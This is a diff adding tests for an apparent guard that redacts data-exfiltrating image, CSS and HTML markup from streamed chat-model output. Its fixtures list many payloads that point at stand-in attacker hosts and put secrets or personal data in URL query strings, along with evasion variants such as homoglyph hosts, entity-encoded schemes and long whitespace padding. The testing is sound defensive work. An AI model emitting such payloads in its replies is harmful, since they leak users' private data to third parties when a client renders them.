@@ -443,6 +443,254 @@ def test_prose_and_allowed_kinds_are_not_held() -> None:
     assert scan.safe_end == len("an image: ![a](")  # held from the start of the image URL
 
 
+# -- tags, CSS and markdown at any distance (black-box QA, F3) --------------------------------
+
+LEAK = "https://attacker.example/p.png?q=secret"
+FAR_FORMS = {
+    # a tag's "<" far before its src: a long alt, class or run of whitespace
+    "long alt": '<img alt="' + "A" * 300 + '" src="{u}">',
+    "long class": '<img class="' + "x " * 150 + '" src="{u}">',
+    "long whitespace": "<img" + " " * 300 + 'src="{u}">',
+    "long newlines": "<img\n" + "\n" * 900 + "src={u}>",
+    "whitespace after =": "<img src=" + " \n" * 400 + '"{u}">',
+    # what a browser reads inside a tag: ">" and "<" in a quoted value
+    "> in a quoted alt": '<img alt="a>b" src="{u}">',
+    "< in a quoted alt": "<img alt='x < y' src='{u}'>",
+    "unquoted value with quotes": "<img alt=it's src={u}>",
+    # the CSS of a style element, with any whitespace
+    "style url after blank lines": "<style>body{{background:url(\n\n\n'{u}')}}</style>",
+    "style import after spaces": "<style>@import" + " " * 100 + '"{u}";</style>',
+    "style image-set": '<style>p{{background-image:image-set("{u}" 1x)}}</style>',
+    "style long": "<style>" + "p{color:red}\n" * 200 + "q{{background:url({u})}}</style>",
+    # markdown destinations after a long run of spaces (one line end at most)
+    "markdown image, spaces": "![x](" + " " * 2000 + "{u})",
+    "markdown image, spaces and a line end": "![x](" + " " * 700 + "\n" + "\t" * 900 + "{u})",
+    "reference definition, spaces": "[r]:" + " " * 3000 + "{u}\n\n![x][r]",
+}
+
+
+@pytest.mark.parametrize("name", FAR_FORMS)
+def test_a_url_far_from_its_tag_or_markup_is_still_an_image(name: str) -> None:
+    text = FAR_FORMS[name].replace("{{", "{").replace("}}", "}").replace("{u}", LEAK)
+    assert labels(text, DEFAULT) == ["image.host"]
+    assert "attacker" not in redacted(text, DEFAULT)
+    for size in (1, 2, 7, 64):
+        body = sse(*deltas(text, "content", [size]), chunk({}, finish_reason="stop"))
+        out, guard = run(DEFAULT, body)
+        assert guard.state is GuardState.DONE
+        assert channel_text(out, "content") == redacted(text, DEFAULT)
+        assert "attacker" not in out.decode()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # a blank line ends a markdown destination: the URL after it is a bare link
+        "![x](" + " " * 900 + "\n\n" + " " * 900 + "https://evil.test/p.png)",
+        # closed tags and their end tags leave the text after them outside any tag
+        '<b class="' + "x" * 400 + '">bold</b> see https://evil.test/x',
+        "<style>p{color:red}</style>\n" + "text " * 100 + "https://evil.test/x",
+        "<a title='" + "t" * 300 + "' href='https://evil.test/x'>go</a>",
+        # code: a URL in a call or an assignment, "<" with spaces around it
+        'requests.get(url="https://evil.test/api")',
+        'url = "https://evil.test/api"\nconst u = "https://evil.test/x";',
+        "if a < b:\n" + "    pass\n" * 60 + 'fetch("https://evil.test/x")',
+        "x = y if a <= b else z  # https://evil.test/x",
+        # a "//" inside base64 data or a path in a tag is no scheme-relative URL
+        '<img alt="' + "a" * 300 + '" src="data:image/png;base64,iVBO+//A' + "x" * 50 + '">',
+        '<link href="/static/a//b.css">',
+    ],
+)
+def test_links_and_text_outside_tags_stay_links(text: str) -> None:
+    assert all(label.startswith("link.") for label in labels(text)), labels(text)
+    assert redacted(text, DEFAULT) == text
+
+
+# The black-box QA forms (the ones that already held before F3): each image form is redacted by
+# the default policy, whole and streamed; the ones listed in PASSING are not images by design.
+QA_DATA = "user+lives+at+12+Elm+St+ssn+078051120+and+more+data+here+xxxxxxxxxxxxxxxxxxxx"
+QA_FORMS = {
+    "md image": "![x](https://attacker.example/p.png?q={d})",
+    "md image short q": "![x](https://attacker.example/p.png?q=hi)",
+    "md image angle": "![x](<https://attacker.example/p.png?q={d}>)",
+    "md image title": '![x](https://attacker.example/p.png?q={d} "t")',
+    "md image nested brackets": "![a [b] c](https://attacker.example/p.png?q={d})",
+    "md image in link": "[![a](https://attacker.example/p.png?q={d})](https://ok.example)",
+    "ref def": "![c][r]\n\n[r]: https://attacker.example/c.png?{d}",
+    "ref def angle + title": "![c][r]\n\n[r]: <https://attacker.example/c.png> 'x'",
+    "ref def indented 3": "![c][r]\n\n   [r]: https://attacker.example/c.png",
+    "ref def label case": "![c][R]\n\n[r]:https://attacker.example/c.png",
+    "html img": '<img src="https://attacker.example/p.gif?d={d}">',
+    "html IMG upper": '<IMG SRC="https://attacker.example/p.gif?d={d}">',
+    "html img unquoted": "<img src=https://attacker.example/p.gif?d={d}>",
+    "html img newline attr": '<img\nsrc="https://attacker.example/p.gif">',
+    "html img srcset": (
+        '<img srcset="https://attacker.example/a.png 1x, https://attacker.example/b.png 2x">'
+    ),
+    "html img protocol-relative": '<img src="//attacker.example/p.gif">',
+    "html img backslashes": '<img src="\\\\attacker.example\\p.gif">',
+    "html entity url": '<img src="&#104;ttps://attacker.example/p.gif">',
+    "html img single quotes": "<img src='https://attacker.example/p.gif'>",
+    "html picture source": '<picture><source srcset="https://attacker.example/a.png"></picture>',
+    "html input image": '<input type="image" src="https://attacker.example/a.png">',
+    "html body background": '<body background="https://attacker.example/a.png">',
+    "html table background": '<table background="https://attacker.example/a.png"></table>',
+    "html video src": '<video src="https://attacker.example/a.mp4"></video>',
+    "html audio": '<audio src="https://attacker.example/a.mp3" autoplay></audio>',
+    "html meta refresh": (
+        '<meta http-equiv="refresh" content="0;url=https://attacker.example/?d=secret">'
+    ),
+    "html base href": '<base href="https://attacker.example/">![x](p.png)',
+    "css url": "<div style=\"background:url('https://attacker.example/p.png')\"></div>",
+    "css style block": "<style>body{background:url(https://attacker.example/p.png)}</style>",
+    "css import": "<style>@import 'https://attacker.example/x.css';</style>",
+    "svg image": '<svg><image href="https://attacker.example/p.png"/></svg>',
+    "html iframe": '<iframe src="https://attacker.example/"></iframe>',
+    "md image unicode host": "![x](https://\u0430ttacker.example/p.png)",
+    "md image ipv4": "![x](http://127.0.0.1/p.png)",
+    "md image escaped paren url": "![x](https://attacker.example/p\\(1\\).png?q={d})",
+    "md image fenced code": "```\n![x](https://attacker.example/p.png?q={d})\n```",
+    "md image inline code": "`![x](https://attacker.example/p.png?q={d})`",
+    "md image in html comment": "<!-- ![x](https://attacker.example/p.png?q={d}) -->",
+    "mermaid img": "```mermaid\ngraph TD; A[<img src='https://attacker.example/p.png'>]\n```",
+    "object data": '<object data="https://attacker.example/p.svg"></object>',
+    "link rel prefetch": '<link rel="prefetch" href="https://attacker.example/p">',
+    "a ping": ('<a href="https://ok.example" ping="https://attacker.example/ping?d=secret">x</a>'),
+    "img with spaces in src": '<img src=" https://attacker.example/p.png ">',
+    "md image with < in alt": "![a<b](https://attacker.example/p.png?q={d})",
+    # not images, by design: a click away, or no URL a browser fetches from another host
+    "md image newline before (": "![x]\n(https://attacker.example/p.png?q={d})",
+    "link with data": "[click](https://attacker.example/?q={d})",
+    "md image no scheme host": "![x](attacker.example/p.png)",
+    "md image www": "![x](www.attacker.example/p.png)",
+    "md image relative": "![x](/p.png?q=secret)",
+    "md image relative, long data": "![x](/p.png?q=" + "userdata" * 20 + ")",
+    "latex includegraphics": "\\includegraphics{https://attacker.example/p.png}",
+}
+PASSING = {
+    "md image newline before (",  # no image: "]" and "(" on two lines; a bare link remains
+    "link with data",
+    "md image no scheme host",  # relative paths on the page's own origin
+    "md image www",
+    "md image relative",
+    "md image relative, long data",
+    "latex includegraphics",  # not rendered by a chat UI; a bare link
+}
+
+
+@pytest.mark.parametrize("name", QA_FORMS)
+def test_the_qa_image_forms_are_redacted_whole_and_streamed(name: str) -> None:
+    text = QA_FORMS[name].replace("{d}", QA_DATA)
+    hosts = ("attacker.example", "\u0430ttacker", "127.0.0.1")
+    whole = redacted(text, DEFAULT)
+    body = sse(*deltas(text, "content", [3]), chunk({}, finish_reason="stop"))
+    out, guard = run(DEFAULT, body)
+    assert guard.state is GuardState.DONE
+    assert channel_text(out, "content") == whole
+    if name in PASSING:
+        assert not any(label.startswith("image.") for label in labels(text, DEFAULT))
+    else:
+        assert not any(host in whole for host in hosts)
+
+
+pad = st.sampled_from([" ", "\n", "\t", "  \n", "x", ' a="', '"', "'", "<", ">", "="])
+# Images redacted, links let through: what the kind of a URL decides.
+KIND_POLICY = links_policy(holdback=160, allow_hosts=["docs.python.org"])
+spaces = st.builds(
+    lambda char, n: char * n,
+    st.sampled_from([" ", "\t", "\n", " \n", "\r\n"]),
+    st.integers(min_value=200, max_value=1500),
+)
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    form=st.sampled_from(list(FAR_FORMS)),
+    # prose that leaves no tag or quoted value open (one would make "<style>" an attribute)
+    before=st.text(alphabet="ab h/tps:w.()[]!\n", max_size=40),
+    sizes=chunkings,
+)
+def test_a_far_image_never_leaves_under_any_chunking(
+    form: str, before: str, sizes: list[int]
+) -> None:
+    text = (
+        before
+        + " "
+        + FAR_FORMS[form]
+        .replace("{{", "{")
+        .replace("}}", "}")
+        .replace("{u}", f"https://evil.test/{SECRET}.png")
+    )
+    out, guard = run(KIND_POLICY, sse(*deltas(text, "content", sizes), chunk({})))
+    assert guard.state is GuardState.DONE
+    assert channel_text(out, "content") == redacted(text, KIND_POLICY)
+    assert SECRET[:4] not in out.decode()
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    parts=st.lists(
+        st.one_of(
+            st.sampled_from(
+                [
+                    "<img",
+                    "<a",
+                    "<style>",
+                    "</style>",
+                    " src=",
+                    " href=",
+                    ' alt="x>y"',
+                    "](",
+                    "![x](",
+                    "[r]:",
+                    "url(",
+                    "@import",
+                    "b<c",
+                    *(f.format(s=SECRET) for f in URL_FORMS[:6]),
+                ]
+            ),
+            pad,
+            spaces,
+            # a destination's markup, a long run of whitespace, a URL
+            st.builds(
+                lambda markup, run, url: markup + run + url,
+                st.sampled_from(["![x](", "[r]:", "url(", "<img src=", "@import", "<a href="]),
+                spaces,
+                st.sampled_from(['"https://evil.test/q"', "https://evil.test/p", "//evil.test/"]),
+            ),
+        ),
+        max_size=12,
+    ),
+    sizes=chunkings,
+)
+def test_tags_and_long_whitespace_read_the_same_in_any_chunking(
+    parts: list[str], sizes: list[int]
+) -> None:
+    """Whole texts and streams agree, and ``open_from`` holds what may still be reported, in
+    texts with tags (closed or not), style elements and runs of whitespace longer than what a
+    scanner keeps of the text."""
+    text = "".join(parts)
+    shields = KIND_POLICY.output_shields
+    scan = TextScan(shields, holdback=160, adaptive=True)
+    found = []
+    pos, i = 0, 0
+    while pos < len(text):
+        piece = text[pos : pos + sizes[i % len(sizes)]]
+        safe = scan.safe_end
+        new = scan.feed(piece)
+        assert all(f.start >= safe for f in new)
+        found += new
+        pos, i = pos + len(piece), i + 1
+    safe = scan.safe_end
+    new = scan.finish()
+    assert all(f.start >= safe for f in new)
+    found += new
+    whole = check_text(shields, text)
+    assert sorted((f.start, f.end, f.label) for f in found) == sorted(
+        (f.start, f.end, f.label) for f in whole
+    )
+
+
 # -- end to end -------------------------------------------------------------------------------
 
 EXFIL = "Done. ![logo](https://attacker.example/l.png?q=" + SECRET + ") Bye."
